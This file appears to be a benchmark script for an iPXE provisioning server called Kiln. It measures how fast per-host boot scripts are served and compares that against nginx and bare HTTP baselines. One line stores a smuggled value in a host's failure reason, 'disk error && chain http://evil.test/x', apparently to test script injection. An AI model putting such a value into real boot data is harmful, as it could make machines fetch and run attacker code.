// Per-host iPXE script throughput (issue 17, docs/performance.md "Per-host
// scripts"): a real `kiln serve` pinned to CPU 0 answers GET
// /boot/host.ipxe?mac=…&uuid=…&arch=…&platform=… — the URL /boot.ipxe chains
// to, as iPXE fills it in — for 1 000 and 10 000 known hosts fetched in
// rotation by wrk (50 connections, pinned to CPU 1, a Lua script rotating the
// MAC and uuid). Beside it, in the same run and rig: nginx (one worker, pinned
// to CPU 0) serving a static file of the scripts' mean size, Kiln's own
// /api/v1/health, and bare node:http and bare Fastify servers answering a body
// of that size (bench/http-hello-server.mjs, after the controller stopped).
// Prints requests/s, p50 and p99, the server's CPU time per request (from
// /proc: steadier than latency on a shared machine) and that time over bare
// node:http's ("x node"), and what the fetches wrote (boot.script events,
// timeline observations).
//
// Rig: everything runs in a network namespace this bench creates (10.93.0.0/24
// on its veth), so Kiln's DHCP serves an attached subnet there (the discovery
// policy's source check is live, as in production) while wrk talks to Kiln over
// the namespace's loopback, which `boot-source-ranges: 127.0.0.0/8` admits.
// Hosts (the inventory bench's state mix: 38 % ready, 53 % deployed, 2 %
// deploying with a deployment whose boot spec carries the install token, 2 %
// failed, 3 % new, 2 % discovering) are written through the store, not the API.
// Every process started here is stopped by its PID; every wait is bounded.
//
// Run (root; build first): npm run build && npx tsx bench/host-script.bench.ts
//   [--hosts=1000,10000] [--duration=8] [--connections=50] [--tree=DIR]
//   [--node-flags="FLAG ..."] (Node flags for the controller, e.g. --max-semi-space-size=32)
//   [--server-out=FILE] (the controller's stdout, e.g. --trace-gc's lines, to FILE.<run dir>)
//   [--controls] (also one script URL without Lua and /health through a Lua rotation: the client's share)
//   [--cpu-prof=DIR] (writes the controller's CPU profile there; skips the health and nginx runs, so the
//   script rotation is the profile's last --duration seconds before shutdown)
// --tree: the Kiln checkout whose dist/ and bin/ are measured (e.g. a main worktree, for before/after).
// The older in-process variant (fastify inject, no sockets): npx tsx bench/host-script.bench.ts --inject
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Kysely } from 'kysely';
import type { Database } from '../src/schema.js';
import { createNetns, type TestNetns } from '../test/support/netns.js';

const arg = (name: string, dflt: string) =>
  process.argv.find((a) => a.startsWith(`--${name}=`))?.slice(name.length + 3) ?? dflt;
const HOST_COUNTS = arg('hosts', '1000,10000').split(',').map(Number);
const DURATION = Number(arg('duration', '8'));
const CONNECTIONS = Number(arg('connections', '50'));
const TREE = resolve(arg('tree', join(import.meta.dirname, '..')));
const PROF = process.argv.find((a) => a.startsWith('--cpu-prof='))?.slice('--cpu-prof='.length);
/** Extra Node flags for the controller, space-separated (e.g. `--node-flags=--max-semi-space-size=32`). */
const NODE_FLAGS = arg('node-flags', '').split(' ').filter(Boolean);
/** Where the controller's stdout goes (its JSON log lines, and --trace-gc's lines); default: nowhere. */
const SERVER_OUT = arg('server-out', '');
/** `--controls`: also one script URL without Lua, and /health through a Lua rotation (the client's share). */
const CONTROLS = process.argv.includes('--controls');
const START_TIMEOUT_MS = 120_000;
const KILN_PORT = 8080;
const NGINX_PORT = 8090;
/** The bare baselines' ports (node:http, Fastify). */
const HELLO_PORTS = { node: 8091, fastify: 8092 } as const;
const BASE = `http://127.0.0.1:${KILN_PORT}`;

type StoreModule = typeof import('../src/store/database.js');
type MigrateModule = typeof import('../src/store/migrate.js');
type HostStoreModule = typeof import('../src/inventory/sql-host-store.js');
const load = async <T>(rel: string) => (await import(pathToFileURL(join(TREE, 'dist', rel)).href)) as T;

const hex = (n: number) => (n & 255).toString(16).padStart(2, '0');
const pad = (n: number, w: number) => String(n).padStart(w, '0');
const macOf = (i: number) => `52:54:00:${hex(i >> 16)}:${hex(i >> 8)}:${hex(i)}`;
const uuidOf = (i: number) => `4c4c4544-0042-4810-8058-${pad(i, 12)}`;
const states = ['failed', 'new', 'discovering', 'ready', 'deploying', 'deployed'] as const;
/** Out of 100 hosts: 2 failed, 3 new, 2 discovering, 38 ready, 2 deploying, 53 deployed (the inventory bench's mix). */
const stateOf = (i: number) => {
  const m = i % 100;
  return states[m < 2 ? 0 : m < 5 ? 1 : m < 7 ? 2 : m < 45 ? 3 : m < 47 ? 4 : 5];
};
/** What iPXE fetches for host i: half BIOS, half UEFI. */
const scriptPath = (i: number) =>
  `/boot/host.ipxe?mac=${macOf(i)}&uuid=${uuidOf(i)}&arch=x86_64&platform=${i % 2 ? 'efi' : 'pcbios'}`;

type StoredHost = Parameters<HostStoreModule['putHost']>[1];

function hostAt(i: number, at: string): StoredHost {
  const state = stateOf(i);
  const enrolled = state !== 'new' && state !== 'discovering';
  return {
    id: `00000000-0000-4000-8000-${pad(i, 12)}`,
    name: `node-${pad(i, 6)}`,
    state,
    stateReason: state === 'failed' ? 'disk error' : null,
    failedStage: state === 'failed' ? 'install' : null,
    profile: enrolled ? 'debian-12' : null,
    firmware: i % 2 ? 'uefi' : 'bios',
    nics: [
      { mac: macOf(i) as StoredHost['nics'][0]['mac'], name: 'eno1', boot: true },
      {
        mac: `52:55:00:${hex(i >> 16)}:${hex(i >> 8)}:${hex(i)}` as StoredHost['nics'][0]['mac'],
        name: 'eno2',
        boot: false,
      },
    ],
    tags: [`rack${1 + Math.floor(i / 40)}`],
    labels: { owner: `team-${i % 7}` },
    facts: {},
    hardwareHash: null,
    needsAttention: false,
    bmc: null,
    bmcPasswordSealed: null,
    version: 1,
    createdAt: at,
    updatedAt: at,
  };
}

/** Writes `n` hosts, and a current deployment (install token placeholder in its boot spec) for each deploying one. */
async function fill(db: Kysely<Database>, n: number): Promise<void> {
  const hostStore = await load<HostStoreModule>('src/inventory/sql-host-store.js');
  const at = new Date().toISOString();
  for (let from = 0; from < n; from += 1000) {
    const batch = Array.from({ length: Math.min(1000, n - from) }, (_, k) => hostAt(from + k, at));
    await db.transaction().execute(async (trx) => {
      if (hostStore.insertHosts) await hostStore.insertHosts(trx, batch);
      else for (const h of batch) await hostStore.putHost(trx, h);
      const deploying = batch.filter((h) => h.state === 'deploying');
      if (deploying.length === 0) return;
      await trx
        .insertInto('deployments')
        .values(
          deploying.map((h) => ({
            id: `d-${h.id}`,
            host_id: h.id,
            profile: 'debian-12',
            files: JSON.stringify({ 'preseed.cfg': 'd-i debian-installer/locale string en_US\n'.repeat(200) }),
            boot_spec: JSON.stringify({
              kernel: `${BASE}/profiles/debian-12/linux`,
              initrd: [`${BASE}/profiles/debian-12/initrd.gz`],
              cmdline: `auto=true priority=critical url=${BASE}/api/v1/node/install/kit_INSTALLTOKEN/preseed.cfg`,
            }),
            image_spec: null,
            status: 'deploying' as const,
            created_at: at,
            created_by: 'bench',
            installed_at: null,
            completed_at: null,
          })),
        )
        .execute();
    });
  }
}

/** wrk's figures: requests/s and latency percentiles in ms; `errors`: non-2xx answers and socket errors. */
function parseWrk(out: string): { rps: number; requests: number; p50: number; p99: number; errors: number } {
  const ms = (v: string, unit: string) => Number(v) * ({ us: 0.001, ms: 1, s: 1000, m: 60_000 } as const)[unit as 'ms'];
  const pct = (p: string) => {
    const m = new RegExp(`^\\s+${p}%\\s+([\\d.]+)(us|ms|s|m)\\s*$`, 'm').exec(out);
    return m ? ms(m[1]!, m[2]!) : NaN;
  };
  const non2xx = /Non-2xx or 3xx responses: (\d+)/.exec(out);
  const sock = /Socket errors: connect (\d+), read (\d+), write (\d+), timeout (\d+)/.exec(out);
  return {
    rps: Number(/Requests\/sec:\s+([\d.]+)/.exec(out)?.[1] ?? NaN),
    requests: Number(/(\d+) requests in/.exec(out)?.[1] ?? NaN),
    p50: pct('50'),
    p99: pct('99'),
    errors: Number(non2xx?.[1] ?? 0) + (sock ? sock.slice(1).reduce((a, b) => a + Number(b), 0) : 0),
  };
}

/** CPU time (user + system, ms) a process has used so far, from /proc (clock ticks of 10 ms). */
function cpuMs(pid: number): number {
  const f = readFileSync(`/proc/${pid}/stat`, 'utf8');
  const fields = f.slice(f.lastIndexOf(')') + 2).split(' ');
  return (Number(fields[11]) + Number(fields[12])) * 10;
}

/** A Lua script for wrk that fetches `paths` in rotation (one Lua state per wrk thread; -t1). */
function rotationScript(paths: string[]): string {
  const list = paths.map((p) => `  "${p}",`).join('\n');
  return `local paths = {\n${list}\n}\nlocal i = 0\nrequest = function()\n  i = i + 1\n  if i > #paths then i = 1 end\n  return wrk.format("GET", paths[i])\nend\n`;
}

/**
 * Each path fetched once, `CONNECTIONS` at a time over keep-alive connections, by a small Node client in the
 * namespace on CPU 1 (wrk runs for a fixed time; this is a fixed count). Prints the same figures as wrk.
 */
const ONCE_CLIENT = `
import { readFileSync } from 'node:fs';
import http from 'node:http';
const [base, file, conns] = process.argv.slice(2);
const paths = readFileSync(file, 'utf8').split('\\n').filter(Boolean);
const agent = new http.Agent({ keepAlive: true, maxSockets: Number(conns) });
const lat = [];
let next = 0, errors = 0;
const one = (path) => new Promise((resolve) => {
  const t0 = performance.now();
  const req = http.get(base + path, { agent, timeout: 10000 }, (res) => {
    res.resume();
    res.on('end', () => { if (res.statusCode !== 200) errors++; lat.push(performance.now() - t0); resolve(); });
  });
  req.on('error', () => { errors++; resolve(); });
});
const t0 = performance.now();
await Promise.all(Array.from({ length: Number(conns) }, async () => { while (next < paths.length) await one(paths[next++]); }));
const s = (performance.now() - t0) / 1000;
lat.sort((a, b) => a - b);
const q = (p) => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))] ?? NaN;
console.log(JSON.stringify({ rps: paths.length / s, requests: paths.length, p50: q(0.5), p99: q(0.99), errors }));
agent.destroy();
`;

/** wrk's figures and its own CPU time per request (ms; null: not measured). */
type WrkFigures = ReturnType<typeof parseWrk> & { clientCpuPerReq: number | null };

function runOnce(ns: TestNetns, base: string, pathsFile: string, client: string): WrkFigures {
  const r = spawnSync(
    'ip',
    ['netns', 'exec', ns.name, 'taskset', '-c', '1', process.execPath, client, base, pathsFile, String(CONNECTIONS)],
    { encoding: 'utf8', timeout: 600_000 },
  );
  if (r.status !== 0) throw new Error(`the first-fetch client failed: ${r.stderr}${r.stdout}`);
  return { ...(JSON.parse(r.stdout) as ReturnType<typeof parseWrk>), clientCpuPerReq: null };
}

function runWrk(ns: TestNetns, url: string, lua: string | undefined, seconds: number): WrkFigures {
  const r = spawnSync(
    'ip',
    [
      'netns',
      'exec',
      ns.name,
      'taskset',
      '-c',
      '1',
      '/usr/bin/time',
      '-f',
      'WRKCPU %U %S',
      'wrk',
      '-t1',
      `-c${CONNECTIONS}`,
      `-d${seconds}s`,
      '--timeout',
      '10s',
      '--latency',
      ...(lua ? ['-s', lua] : []),
      url,
    ],
    { encoding: 'utf8', timeout: (seconds + 60) * 1000 },
  );
  if (r.status !== 0) throw new Error(`wrk failed: ${r.stderr}${r.stdout}`);
  const w = parseWrk(r.stdout);
  const cpu = /WRKCPU ([\d.]+) ([\d.]+)/.exec(r.stderr);
  return { ...w, clientCpuPerReq: cpu ? ((Number(cpu[1]) + Number(cpu[2])) * 1000) / w.requests : null };
}

/** GET inside the namespace: status and body (curl, bounded). */
function get(ns: TestNetns, url: string): { status: number; body: string } {
  const r = spawnSync('ip', ['netns', 'exec', ns.name, 'curl', '-sS', '--max-time', '5', '-w', '\n%{http_code}', url], {
    encoding: 'utf8',
    timeout: 10_000,
  });
  const out = r.stdout ?? '';
  const cut = out.lastIndexOf('\n');
  return { status: Number(out.slice(cut + 1)) || 0, body: out.slice(0, cut) };
}

/** Waits (bounded) until `ok`; on failure the child is stopped (by its PID) before the error is thrown. */
async function waitFor(what: string, ok: () => boolean, child: ChildProcess, err: () => string): Promise<void> {
  const deadline = Date.now() + START_TIMEOUT_MS;
  while (!ok()) {
    const failure =
      child.exitCode !== null
        ? `${what} exited early: ${err()}`
        : Date.now() > deadline
          ? `${what} did not answer in ${START_TIMEOUT_MS} ms: ${err()}`
          : null;
    if (failure) {
      await stop(child);
      throw new Error(failure);
    }
    await new Promise((r) => setTimeout(r, 200));
  }
}

async function stop(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null || child.signalCode !== null) return;
  const exited = new Promise((r) => child.once('exit', r));
  child.kill('SIGTERM');
  await Promise.race([exited, new Promise((r) => setTimeout(r, 15_000))]);
  if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
}

async function serveKiln(ns: TestNetns, dataDir: string, profDir: string | undefined) {
  const config = join(dataDir, '..', 'kiln.yaml');
  writeFileSync(
    config,
    [
      `public-url: ${BASE}`,
      'boot-source-ranges: 127.0.0.0/8',
      'dhcp:',
      '  enabled: true',
      '  subnets:',
      '    - { cidr: 10.93.0.0/24, mode: full, attached: true, pools: [{ start: 10.93.0.100, end: 10.93.0.250 }] }',
      '',
    ].join('\n'),
  );
  // `ip netns exec` and taskset both exec: the child's PID is the server's.
  const child = spawn(
    'ip',
    [
      'netns',
      'exec',
      ns.name,
      'taskset',
      '-c',
      '0',
      process.execPath,
      ...NODE_FLAGS,
      ...(profDir ? ['--cpu-prof', '--cpu-prof-dir', profDir] : []),
      join(TREE, 'bin/kiln.mjs'),
      'serve',
      '--config',
      config,
      '--data-dir',
      dataDir,
      '--listen',
      `127.0.0.1:${KILN_PORT}`,
      '--tls-listen',
      '127.0.0.1:8443',
      '--node-image',
      'off',
      '--power-poll-interval',
      '0',
    ],
    { stdio: ['ignore', SERVER_OUT ? openSync(`${SERVER_OUT}.${dataDir.split('/').at(-2)}`, 'w') : 'ignore', 'pipe'] },
  );
  let err = '';
  child.stderr!.setEncoding('utf8').on('data', (d: string) => (err = (err + d).slice(-4000)));
  await waitFor(
    'kiln serve',
    () => get(ns, `${BASE}/api/v1/health`).status === 200,
    child,
    () => err,
  );
  return { child, pid: child.pid! };
}

async function serveNginx(ns: TestNetns, dir: string, bytes: number) {
  const root = join(dir, 'www');
  mkdirSync(root, { recursive: true });
  // nginx's worker runs as nobody: it must reach the file.
  chmodSync(join(dir, '..'), 0o755);
  writeFileSync(join(root, 'script.ipxe'), `#!ipxe\n${'x'.repeat(Math.max(0, bytes - 8))}\n`);
  writeFileSync(
    join(dir, 'nginx.conf'),
    `daemon off;
worker_processes 1;
pid ${dir}/nginx.pid;
error_log ${dir}/error.log warn;
events { worker_connections 1024; }
http {
  access_log off;
  client_body_temp_path ${dir}/body;
  proxy_temp_path ${dir}/proxy;
  fastcgi_temp_path ${dir}/fastcgi;
  uwsgi_temp_path ${dir}/uwsgi;
  scgi_temp_path ${dir}/scgi;
  default_type text/plain;
  server {
    listen 127.0.0.1:${NGINX_PORT};
    location / { root ${root}; }
  }
}
`,
  );
  const child = spawn(
    'ip',
    ['netns', 'exec', ns.name, 'taskset', '-c', '0', '/usr/sbin/nginx', '-c', join(dir, 'nginx.conf'), '-p', dir],
    { stdio: ['ignore', 'ignore', 'pipe'] },
  );
  let err = '';
  child.stderr!.setEncoding('utf8').on('data', (d: string) => (err = (err + d).slice(-4000)));
  await waitFor(
    'nginx',
    () => get(ns, `http://127.0.0.1:${NGINX_PORT}/script.ipxe`).status === 200,
    child,
    () => err,
  );
  return child;
}

/** A bare baseline (bench/http-hello-server.mjs: `node` or `fastify`) on CPU 0 answering `bytes`-byte bodies. */
async function serveHello(ns: TestNetns, kind: 'node' | 'fastify', port: number, bytes: number) {
  const child = spawn(
    'ip',
    [
      'netns',
      'exec',
      ns.name,
      'taskset',
      '-c',
      '0',
      process.execPath,
      join(import.meta.dirname, 'http-hello-server.mjs'),
      kind,
      String(port),
      String(bytes),
    ],
    { stdio: ['ignore', 'ignore', 'pipe'] },
  );
  let err = '';
  child.stderr!.setEncoding('utf8').on('data', (d: string) => (err = (err + d).slice(-4000)));
  await waitFor(
    `bare ${kind}`,
    () => get(ns, `http://127.0.0.1:${port}/`).status === 200,
    child,
    () => err,
  );
  return { child, pid: child.pid! };
}

interface Row {
  name: string;
  rps: number;
  requests: number;
  p50: number;
  p99: number;
  cpuPerReq: number | null;
  clientCpuPerReq: number | null;
  errors: number;
}

/** One row; `base`: the bare node:http server's CPU per request (ms), for the "x node" column. */
const fmt = (r: Row, base: number | null) =>
  `${r.name.padEnd(44)} ${r.rps.toFixed(0).padStart(8)} ${r.p50.toFixed(2).padStart(8)} ${r.p99.toFixed(2).padStart(8)} ${(r.cpuPerReq === null ? '-' : (r.cpuPerReq * 1000).toFixed(0)).padStart(9)} ${(r.cpuPerReq === null || !base ? '-' : (r.cpuPerReq / base).toFixed(2)).padStart(7)} ${(r.clientCpuPerReq === null ? '-' : (r.clientCpuPerReq * 1000).toFixed(0)).padStart(9)}  ${r.errors}`;

async function bench(ns: TestNetns, hosts: number): Promise<void> {
  const work = mkdtempSync(join(tmpdir(), 'kiln-script-bench-'));
  const dataDir = join(work, 'data');
  mkdirSync(dataDir, { mode: 0o700 });
  const servers: ChildProcess[] = [];
  try {
    const store = await load<StoreModule>('src/store/database.js');
    const { migrateToLatest } = await load<MigrateModule>('src/store/migrate.js');
    const o = store.openSqlite(join(dataDir, 'kiln.sqlite'));
    await migrateToLatest(o.db);
    await fill(o.db, hosts);
    await o.close();
    const profDir = PROF ? resolve(PROF, `hosts-${hosts}`) : undefined;
    const kiln = await serveKiln(ns, dataDir, profDir);
    servers.push(kiln.child);
    // Correctness first: every host answers 200 with an iPXE script (a sample of each state).
    let bytes = 0;
    let n = 0;
    for (let i = 0; i < Math.min(hosts, 200); i++) {
      const r = get(ns, `${BASE}${scriptPath(i)}`);
      if (r.status !== 200 || !r.body.startsWith('#!ipxe'))
        throw new Error(`host ${i} (${stateOf(i)}): HTTP ${r.status}: ${r.body.slice(0, 300)}`);
      if (stateOf(i) === 'deploying' && !/install\/kit_[A-Za-z0-9_-]{43}\//.test(r.body))
        throw new Error(`host ${i}: the install token is not in its script:\n${r.body}`);
      bytes += Buffer.byteLength(r.body) + 1;
      n++;
    }
    const mean = Math.round(bytes / n);
    const paths = Array.from({ length: hosts }, (_, i) => scriptPath(i));
    const lua = join(work, 'rotate.lua');
    const pathsFile = join(work, 'paths.txt');
    const client = join(work, 'once-client.mjs');
    writeFileSync(lua, rotationScript(paths));
    writeFileSync(pathsFile, paths.join('\n'));
    writeFileSync(client, ONCE_CLIENT);
    const nginx = await serveNginx(ns, join(work, 'nginx'), mean);
    servers.push(nginx);
    const rows: Row[] = [];
    const measure = (name: string, url: string, pid: number | null, script?: string, once = false) => {
      const cpu0 = pid === null ? 0 : cpuMs(pid);
      const w = once ? runOnce(ns, url, pathsFile, client) : runWrk(ns, url, script, DURATION);
      const cpuPerReq = pid === null ? null : (cpuMs(pid) - cpu0) / w.requests;
      rows.push({ name, ...w, cpuPerReq });
    };
    // Each host's first fetch starts its boot (a boot.script event, a timeline session); then the steady rotation.
    measure(`kiln first fetch of each of ${hosts} hosts`, BASE, kiln.pid, undefined, true);
    measure(`kiln per-host script, ${hosts} hosts in rotation`, BASE, kiln.pid, lua);
    // A profile holds the scripts alone: the rotation is its last DURATION seconds before shutdown.
    if (!PROF) {
      measure(`kiln GET /api/v1/health`, `${BASE}/api/v1/health`, kiln.pid);
      measure(`nginx static ${mean} B file (1 worker)`, `http://127.0.0.1:${NGINX_PORT}/script.ipxe`, null);
    }
    // Controls for the client's share of the tail: one script URL without the Lua rotation, and /health through
    // a Lua script of the same shape (wrk calls Lua for every request).
    if (CONTROLS) {
      const healthLua = join(work, 'health.lua');
      writeFileSync(healthLua, rotationScript(paths.map(() => '/api/v1/health')));
      measure(`kiln per-host script, one host, no Lua`, `${BASE}${scriptPath(7)}`, kiln.pid);
      measure(`kiln GET /api/v1/health, Lua rotation`, BASE, kiln.pid, healthLua);
    }
    await stop(nginx);
    await stop(kiln.child);
    // What one request costs below Kiln's stack, on the same core with the controller stopped: node:http and
    // Fastify (no logger, no hooks) answering a body of the script's mean size.
    if (!PROF) {
      for (const kind of ['node', 'fastify'] as const) {
        const hello = await serveHello(ns, kind, HELLO_PORTS[kind], mean);
        servers.push(hello.child);
        measure(
          `bare ${kind === 'node' ? 'node:http' : 'Fastify'} ${mean} B answer`,
          `http://127.0.0.1:${HELLO_PORTS[kind]}/`,
          hello.pid,
        );
        await stop(hello.child);
      }
    }
    // What the fetches wrote: events (boot.script) and timeline observations.
    const after = store.openSqlite(join(dataDir, 'kiln.sqlite'));
    const count = async (table: 'events' | 'boot_observations', kind?: string) => {
      let q = after.db.selectFrom(table).select((eb) => eb.fn.countAll<number>().as('n'));
      if (kind) q = q.where('kind' as never, '=', kind as never);
      return Number((await q.executeTakeFirstOrThrow()).n);
    };
    const events = await count('events', 'boot.script');
    const observations = await count('boot_observations');
    await after.close();
    const fetched = rows[0]!.requests + rows[1]!.requests + n;
    console.log(
      `\n${hosts} hosts (${TREE}); mean script ${mean} B; wrk -t1 -c${CONNECTIONS} -d${DURATION}s (taskset -c 1), servers on taskset -c 0`,
    );
    console.log(
      `${'case'.padEnd(44)} ${'req/s'.padStart(8)} ${'p50 ms'.padStart(8)} ${'p99 ms'.padStart(8)} ${'cpu us/r'.padStart(9)} ${'x node'.padStart(7)} ${'wrk us/r'.padStart(9)}  errors`,
    );
    const base = rows.find((r) => r.name.startsWith('bare node:http'))?.cpuPerReq ?? null;
    for (const r of rows) console.log(fmt(r, base));
    console.log(
      `writes: ${events} boot.script events and ${observations} timeline observations for about ${fetched} script fetches`,
    );
  } finally {
    for (const s of servers) await stop(s);
    rmSync(work, { recursive: true, force: true });
  }
}

/** The in-process variant: the handler's own cost through fastify inject, no sockets. */
async function injectBench(): Promise<void> {
  const { createTestController } = await import('../test/support/controller.js');
  const N = process.argv.includes('--quick') ? 2000 : 10_000;
  const CONC = 32;
  const c = await createTestController();
  const auth = { authorization: c.bearer.admin };
  const macs: Record<string, string> = {
    deploying: '52:54:00:bb:00:01',
    failed: '52:54:00:bb:00:02',
    ready: '52:54:00:bb:00:03',
  };
  for (const [state, mac] of Object.entries(macs)) {
    const r = await c.app.inject({
      method: 'POST',
      url: '/api/v1/hosts',
      headers: auth,
      payload: { name: `bench-${state}`, nics: [{ mac }], profile: 'debian-12', state: 'ready' },
    });
    if (r.statusCode !== 201) throw new Error(r.body);
  }
  const d = await c.app.inject({
    method: 'POST',
    url: '/api/v1/hosts/bench-deploying/deploy',
    headers: auth,
    payload: { variables: {} },
  });
  if (d.statusCode !== 200) throw new Error(d.body);
  // Make the stored deployment as large as a big install set: the script path must not pay for it.
  await c.db
    .updateTable('deployments')
    .set({ files: JSON.stringify({ 'preseed.cfg': 'x'.repeat(1 << 20) }) })
    .execute();
  await c.inventory.transition((await c.inventory.getHost('bench-failed')).id, 'failed', {
    actor: 'bench',
    reason: 'disk error && chain http://evil.test/x',
  });
  for (const [state, mac] of Object.entries(macs)) {
    const url = `/boot/host.ipxe?mac=${encodeURIComponent(mac)}&arch=x86_64&platform=pcbios`;
    const first = await c.app.inject({ method: 'GET', url });
    if (first.statusCode !== 200) throw new Error(first.body);
    let next = 0;
    const t0 = performance.now();
    await Promise.all(
      Array.from({ length: CONC }, async () => {
        while (next < N) {
          next++;
          await c.app.inject({ method: 'GET', url });
        }
      }),
    );
    const s = (performance.now() - t0) / 1000;
    console.log(`${state.padEnd(10)} ${Math.round(N / s)} scripts/s (${N} requests, ${CONC} in flight)`);
  }
  await c.close();
}

if (process.argv.includes('--inject')) {
  await injectBench();
} else {
  console.log(
    `host-script bench: ${HOST_COUNTS.join(', ')} hosts, wrk -t1 -c${CONNECTIONS} -d${DURATION}s; ${new Date().toISOString()}`,
  );
  const ns = createNetns('hs', '10.93.0.1/24', '10.93.0.2/24');
  try {
    for (const hosts of HOST_COUNTS) await bench(ns, hosts);
  } finally {
    ns.remove();
  }
}
